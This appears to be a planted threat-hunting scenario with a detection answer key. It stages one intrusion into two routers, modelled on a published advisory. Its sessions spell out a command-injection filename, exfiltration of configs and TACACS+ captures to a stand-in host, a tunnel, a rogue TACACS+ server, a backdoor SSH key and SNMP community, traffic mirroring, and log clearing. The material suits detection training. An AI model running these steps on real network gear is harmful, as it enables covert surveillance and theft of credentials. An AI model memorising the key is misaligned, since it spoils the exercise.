# One intrusion, planted from the published description of AA25-239A, in UTC.
# Entry through the web interface of edge-kal-01, then from there to pe-kal-01.
# 192.0.2.66 and 192.0.2.137 are the intruder's; 172.86.102.83 and 45.61.149.62 are published indicators.
#
# act ID ROWS DEVICE | sentence

act A01 ST-19 edge-kal-01 | Web interface logins, three failed and one successful, arrive on local port 21111 from an outside address.
act A02 ST-15 ST-18 edge-kal-01 | The web interface's process creates a privilege-15 account whose name is known from earlier waves.
act A03 ST-01 edge-kal-01 | Access list 20 appears, holds an outside address and is put on the VTY lines.
act A04 ST-14 edge-kal-01 | Login asks the local accounts first, before TACACS+.
act A05 ST-25 edge-kal-01 | The VTY access class is removed and another one applied 28 seconds later.
act A06 ST-02 edge-kal-01 | SSH also listens on port 22122.
act A07 ST-03 edge-kal-01 | The web interface moves to port 18443.
act A08 ST-15 edge-kal-01 | The new account logs in over SSH on the high port from outside.
act A09 ST-26 edge-kal-01 | Nine reconnaissance commands in three minutes.
act A10 ST-20 edge-kal-01 | A package description is asked for with a shell pattern as its file name.
act A11 ST-06 edge-kal-01 | Guest Shell is enabled, used and destroyed within 17 minutes.
act A12 ST-08 edge-kal-01 | A packet capture of TCP port 49 is defined and started.
act A13 ST-09 edge-kal-01 | The capture is exported to bootflash as mycap.pcap and copied away.
act A14 ST-21 edge-kal-01 | The running configuration and the capture are copied to an outside host.
act A15 ST-22 edge-kal-01 | The log is read, cleared, and the session left within two minutes.
act A20 ST-14 edge-kal-01 | Command accounting is switched off at all levels: from here on this device's accounting is silent.
act A21 ST-11 edge-kal-01 | A GRE tunnel to a published indicator address is built within one minute.
act A22 ST-12 edge-kal-01 | A static route sends the intruder's network into that tunnel.
act A23 ST-24 edge-kal-01 | A loopback is created, made the source of SSH, used to reach pe-kal-01, and removed again before the log is cleared.
act A24 ST-28 ST-29 pe-kal-01 | The collector's account logs in from another router's address (not from the collector) and runs commands that are not the collector's.
act A25 ST-13 pe-kal-01 | A third TACACS+ server, a published indicator address, joins the server group.
act A26 ST-16 pe-kal-01 | A public key is added to an engineer's account.
act A27 ST-30 ST-01 pe-kal-01 | A read-write SNMP community appears and its access list 10 gets an outside address.
act A28 ST-10 pe-kal-01 | An ERSPAN session copies the link to the edge to an outside address.
act A29 ST-27 pe-kal-01 | Nine ping, telnet and ssh commands to seven targets in eight minutes, one of them telnet to port 22.
act A30 ST-21 pe-kal-01 | The running configuration is copied to an outside host.
act A31 ST-22 pe-kal-01 | The log is read, cleared, and the session left within two minutes.
act A32 ST-28 pe-kal-01 | A second router-to-router login, from the edge's own management address, with an engineer's account.
act A33 ST-22 pe-kal-01 | The log server is removed: this device's syslog ends here, 14 days before the end of the month.
act A34 ST-22 edge-kal-01 | The log is read, cleared, and the session left within two minutes, after the loopback is removed.
act A35 ST-28 rtr-ner-02 | A login attempt from pe-kal-01's address, refused: the trace of the probe on its target.
act A37 ST-22 edge-kal-01 | The log is cleared once more, without having been read, and the session left.
act A36 ST-21 ST-09 edge-kal-01 | A second day of capture is taken away the next night.

log edge-kal-01 2026-09-12 02:09:31 [A01] %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 192.0.2.66] [localport: 21111] [Reason: Login Authentication Failed] {at}
log edge-kal-01 2026-09-12 02:09:44 [A01] %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: cisco] [Source: 192.0.2.66] [localport: 21111] [Reason: Login Authentication Failed] {at}
log edge-kal-01 2026-09-12 02:10:12 [A01] %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: netadmin] [Source: 192.0.2.66] [localport: 21111] [Reason: Login Authentication Failed] {at}
log edge-kal-01 2026-09-12 02:11:29 [A02] %PARSER-5-CFGLOG_LOGGEDCMD: User:unknown user  logged command:username cisco_support privilege 15 secret 0 {s:intruder-user}
log edge-kal-01 2026-09-12 02:11:29 [A02] %AAA-6-USERNAME_CONFIGURATION: user with username: cisco_support configured
log edge-kal-01 2026-09-12 02:11:30 [A02] %SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_support on vty63
log edge-kal-01 2026-09-12 02:11:44 [A01] %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: cisco_support] [Source: 192.0.2.66] [localport: 21111] {at}

session edge-kal-01 2026-09-12 02:12:02 cisco_support 192.0.2.66 port=21111 web
02:13:10 [A04] aaa authentication login default local group PELAGIA-TAC
02:13:11 [A04] ~aaa authorization exec default local group PELAGIA-TAC if-authenticated
02:19:52 ~access-list 20 permit 10.20.9.0 0.0.0.31
02:19:53 [A03] ~access-list 20 permit 192.0.2.66
02:20:03 [A05] line vty 0 4
02:20:03 [A05] no access-class MGMT-VTY in vrf-also
02:20:31 [A05] line vty 0 4
02:20:31 [A03 A05] access-class 20 in vrf-also
02:21:15 [A06] ip ssh port 22122 rotary 1
02:21:40 line vty 0 4
02:21:40 [A06] rotary 1
02:22:09 [A07] ip http secure-port 18443
02:22:10 end

session edge-kal-01 2026-09-12 02:26:08 cisco_support 192.0.2.66 port=22122 [A08]
02:27:03 [A09] terminal length 0
02:27:06 [A09] terminal width 0
02:27:20 [A09] show clock
02:27:41 [A09] show running-config
02:28:30 [A09] show tacacs
02:28:52 [A09] show cdp neighbors
02:29:10 [A09] show file systems
02:29:34 [A09] dir bootflash:
02:29:58 [A09] show platform software status control-processor brief
02:34:12 [A10] request platform software package describe --filename=$(bash)n
02:40:11 configure terminal
02:40:20 ~iox
02:40:27 end
02:41:02 [A11] guestshell enable
02:44:30 [A11] guestshell run bash
02:57:48 [A11] guestshell destroy
02:58:50 configure terminal
02:58:58 ~no iox
02:59:04 end
03:05:11 [A12] monitor capture mycap interface TenGigabitEthernet0/0/4 both
03:05:40 [A12] monitor capture mycap match ipv4 protocol tcp any any eq 49
03:05:58 [A12] monitor capture mycap buffer size 100 circular
03:06:10 [A12] monitor capture mycap start
03:12:20 [A14] copy running-config tftp://192.0.2.137/edge-kal-01-confg
03:20:41 [A15] show logging
03:21:09 [A15] clear logging
03:21:30 [A15] exit
log edge-kal-01 2026-09-12 02:42:40 [A11] %VMAN-5-ACTIVATION_STATE: R0/0: vman: Successfully activated virtual service 'guestshell'
log edge-kal-01 2026-09-12 02:43:02 [A11] %IM-6-IOX_INST_INFO: R0/0: ioxman: IOX SERVICE guestshell LOG: Guestshell is up at 09/12/2026 02:43:02
log edge-kal-01 2026-09-12 02:57:50 [A11] %VMAN-5-ACTIVATION_STATE: R0/0: vman: Destroying virtual service 'guestshell'
log edge-kal-01 2026-09-12 02:58:14 [A11] %VMAN-5-ACTIVATION_STATE: R0/0: vman: Successfully destroyed virtual service 'guestshell'
log edge-kal-01 2026-09-12 03:06:10 [A12] %BUFCAP-6-ENABLE: Capture Point mycap enabled.

session edge-kal-01 2026-09-13 02:29:17 cisco_support 192.0.2.66 port=22122
02:30:02 monitor capture mycap stop
02:30:44 [A13] monitor capture mycap export bootflash:mycap.pcap
02:32:20 [A13 A14] copy bootflash:mycap.pcap ftp://drop:{s:intruder-ftp}@192.0.2.137/mycap.pcap
02:36:05 monitor capture mycap clear
02:36:20 monitor capture mycap start
02:37:02 exit
log edge-kal-01 2026-09-13 02:30:02 %BUFCAP-6-DISABLE: Capture Point mycap disabled.
log edge-kal-01 2026-09-13 02:36:20 [A12] %BUFCAP-6-ENABLE: Capture Point mycap enabled.

session edge-kal-01 2026-09-14 01:38:30 cisco_support 192.0.2.66 port=22122
01:39:05 monitor capture mycap stop
01:39:30 [A36] monitor capture mycap export bootflash:mycap.pcap
01:40:22 [A36] copy bootflash:mycap.pcap ftp://drop:{s:intruder-ftp}@192.0.2.137/mycap2.pcap
01:43:10 no monitor capture mycap
01:43:31 delete /force bootflash:mycap.pcap
01:48:02 configure terminal
01:48:20 [A20] no aaa accounting commands 0 default
01:48:27 [A20] no aaa accounting commands 1 default
01:48:33 [A20] no aaa accounting commands 15 default
01:52:10 [A21] interface Tunnel77
01:52:22 [A21] ip address 10.10.12.2 255.255.255.252
01:52:36 [A21] tunnel source GigabitEthernet0/0/0
01:52:50 [A21] tunnel destination 172.86.102.83
01:53:31 [A22] ip route 192.0.2.128 255.255.255.128 Tunnel77
02:01:12 [A23] ~interface Loopback250
02:01:25 [A23] ~ip address 10.20.0.250 255.255.255.255
02:01:44 [A23] ~ip ssh source-interface Loopback250
02:02:03 end
02:06:40 [A23] ssh -l oxidized 10.20.0.21
02:49:30 configure terminal
02:49:44 [A23] ip ssh source-interface Loopback0
02:49:58 [A23 A34] ~no interface Loopback250
02:50:10 end
02:50:21 [A34] show logging
02:50:40 [A34] clear logging
02:51:02 [A34] exit
log edge-kal-01 2026-09-14 01:39:05 %BUFCAP-6-DISABLE: Capture Point mycap disabled.
log edge-kal-01 2026-09-14 01:52:51 [A21] %LINEPROTO-5-UPDOWN: Line protocol on Interface Tunnel77, changed state to up
log edge-kal-01 2026-09-14 02:01:14 %LINEPROTO-5-UPDOWN: Line protocol on Interface Loopback250, changed state to up
log edge-kal-01 2026-09-14 02:49:59 %LINK-5-CHANGED: Interface Loopback250, changed state to administratively down

session pe-kal-01 2026-09-14 02:06:58 oxidized 10.20.0.250 [A24 A23]
02:07:30 [A24] terminal length 0
02:07:52 [A24] show running-config
02:08:40 [A24] show mpls ldp neighbor
02:09:12 [A24] show ip bgp vpnv4 all summary
02:09:50 configure terminal
02:10:15 [A25] tacacs server TAC-C
02:10:31 [A25] address ipv4 45.61.149.62
02:10:52 ~key {s:intruder-tac}
02:11:10 [A25] aaa group server tacacs+ PELAGIA-TAC
02:11:22 [A25] server name TAC-C
02:13:05 [A26] ip ssh pubkey-chain
02:13:20 [A26] username mreyes
02:13:41 [A26] ~key-hash ssh-rsa B7E34D90A1C2F5886E0D7743FA19C26B
02:15:02 [A27] ~access-list 10 permit 192.0.2.137
02:15:30 [A27] snmp-server community {s:intruder-community} RW 10
02:18:11 [A28] monitor session 9 type erspan-source
02:18:30 ~source interface TenGigabitEthernet0/1/0
02:18:41 destination
02:18:55 [A28] erspan-id 909
02:19:10 [A28] ip address 192.0.2.137
02:19:24 origin ip address 10.20.0.21
02:19:40 no shutdown
02:19:58 end
02:24:05 [A29] ping 10.20.7.33
02:24:40 [A29] telnet 10.20.7.33 22
02:25:52 [A29] ping 10.20.0.34
02:26:10 [A29] ssh -l oxidized 10.20.0.34
02:27:31 [A29] ping 10.21.0.6
02:28:02 [A29] telnet 10.21.255.2 22
02:29:15 [A29] ping vrf CUST-HELIOS 10.22.101.2
02:30:20 [A29] ping vrf CUST-BORA 10.22.102.2
02:31:44 [A29] ping 10.20.9.40
02:38:20 [A30] copy running-config tftp://192.0.2.137/pe-kal-01-confg
02:46:10 [A31] show logging
02:46:41 [A31] clear logging
02:47:05 [A31] exit
log sw-kal-03 2026-09-14 02:24:41 %SEC-6-IPACCESSLOGS: list MGMT-VTY denied 10.20.7.1 1 packet
log rtr-ner-02 2026-09-14 02:26:19 [A35] %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: oxidized] [Source: 10.20.0.21] [localport: 22] [Reason: Login Authentication Failed] {at}

session edge-kal-01 2026-09-16 01:50:12 cisco_support 192.0.2.66 port=22122
01:51:20 [A32] ssh -l mreyes 10.20.0.21
02:02:10 [A37] clear logging
02:02:31 [A37] exit

session pe-kal-01 2026-09-16 01:51:33 mreyes 10.20.0.11 [A32]
01:52:10 show logging
01:52:51 configure terminal
01:53:20 [A33] no logging host 10.20.9.50
01:53:32 end
01:54:10 write memory
01:58:40 [A33] clear logging
01:59:02 exit
log pe-kal-01 2026-09-16 01:53:20 [A33] %SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.20.9.50 port 514 stopped - CLI initiated
